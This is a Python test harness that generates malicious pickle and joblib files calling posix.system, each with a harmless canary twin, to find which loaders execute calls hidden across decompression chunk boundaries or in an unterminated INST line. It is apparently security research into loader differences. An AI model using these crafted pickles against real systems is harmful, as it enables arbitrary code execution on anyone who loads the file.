"""Loader-differential cases for the text lines of GLOBAL and INST.

Two classes:
- `straddle_*`: a protocol-0 `GLOBAL posix system` + call placed so that its lines cross every
  position around the chunk boundaries at which decompressors hand out their output (joblib's
  zlib, gzip, bz2 and xz/lzma), written as compressed joblib files. The name line arriving in a
  later read must not cost the module line.
- `eof_*`: INST whose name line is the last line of the stream, without a newline (and with
  various heads). The pure-Python unpickler (`pickle._loads`, `joblib.load`) reads it with
  `readline()[:-1]`, drops the last byte and runs the call before failing.

Writes NAME.payload.joblib (posix.system) and NAME.twin.joblib (the canary) and prints one JSON
line per case: {"name", "reached"}, reached meaning the twin ran the canary under any of
`pickle.loads`, `pickle._loads` (twice on one stream, for stacked pickles) or `joblib.load`
(all loads run in one subprocess).
"""

import bz2
import gzip
import json
import lzma
import os
import subprocess
import sys
import zlib

CANARY = (b"mg_canary", b"reached")
PAYLOAD = (b"posix", b"system")

COMPRESSORS = {
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
}


def straddle(target, pad, inst):
    # MARK, pad-2 NONEs, POP_MARK: plain filler that moves the lines across chunk boundaries.
    head = b"(" + b"N" * (pad - 2) + b"1"
    mod, name = target
    if inst:
        return head + b"(S'true'\ni" + mod + b"\n" + name + b"\n."
    return head + b"c" + mod + b"\n" + name + b"\n(S'true'\ntR."


def eof_inst(target, head, tail):
    mod, name = target
    return head + b"(S'true'\ni" + mod + b"\n" + name + tail


def cases():
    for cname, comp in COMPRESSORS.items():
        for base in (16384, 32768, 65536):
            for d in range(-14, 2):
                for inst in (False, True):
                    kind = "inst" if inst else "global"
                    yield (
                        f"straddle_{cname}_{kind}_{base}_{d}",
                        lambda t, c=comp, p=base + d, i=inst: c(straddle(t, p, i)),
                    )
    heads = {"p0": b"", "p2": b"\x80\x02", "p4": b"\x80\x04", "stacked": b"\x80\x02N."}
    for hname, head in heads.items():
        for tname, tail in (("x", b"X"), ("cr", b"\r"), ("space", b" "), ("nul", b"\x00")):
            yield f"eof_{hname}_{tname}", lambda t, h=head, e=tail: eof_inst(t, h, e)


LOADER = r"""
import io, json, pickle, sys
sys.path.insert(0, sys.argv[1])
import joblib, mg_canary
for path in sys.argv[2:]:
    data = open(path, "rb").read()
    hit = False
    for load in (
        lambda: pickle.loads(data),
        lambda: pickle._loads(data),
        lambda: [pickle._load(f) for f in [io.BytesIO(data)] for _ in range(2)],
        lambda: joblib.load(path),
    ):
        mg_canary.hits.clear()
        try:
            load()
        except Exception:
            pass
        hit = hit or bool(mg_canary.hits)
    print(json.dumps({"path": path, "reached": hit}))
"""

CANARY_MODULE = """
hits = []
def reached(*args):
    hits.append(args)
"""


def main(out):
    os.makedirs(out, exist_ok=True)
    canary_dir = os.path.join(out, "canary")
    os.makedirs(canary_dir, exist_ok=True)
    with open(os.path.join(canary_dir, "mg_canary.py"), "w") as f:
        f.write(CANARY_MODULE)
    names = []
    for name, build in cases():
        for kind, target in (("twin", CANARY), ("payload", PAYLOAD)):
            with open(os.path.join(out, f"{name}.{kind}.joblib"), "wb") as f:
                f.write(build(target))
        names.append(name)
    twins = [os.path.join(out, f"{n}.twin.joblib") for n in names]
    res = subprocess.run(
        [sys.executable, "-c", LOADER, canary_dir, *twins],
        capture_output=True,
        timeout=600,
        text=True,
    )
    reached = {}
    for line in res.stdout.splitlines():
        r = json.loads(line)
        reached[r["path"]] = r["reached"]
    for n, t in zip(names, twins):
        print(json.dumps({"name": n, "reached": reached.get(t, False)}))


if __name__ == "__main__":
    main(sys.argv[1])
